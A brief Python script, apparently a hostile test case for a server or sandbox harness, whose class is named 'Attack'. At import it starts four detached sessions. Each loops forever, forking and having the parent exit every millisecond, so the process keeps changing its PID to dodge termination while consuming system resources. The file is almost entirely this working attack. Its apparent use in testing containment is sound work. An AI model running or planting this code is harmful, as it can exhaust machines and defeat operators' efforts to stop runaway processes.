import os
import time

import server


HEADS = 4
for _ in range(HEADS):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
            time.sleep(0.001)


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {"heads": HEADS})


server.serve(Attack)
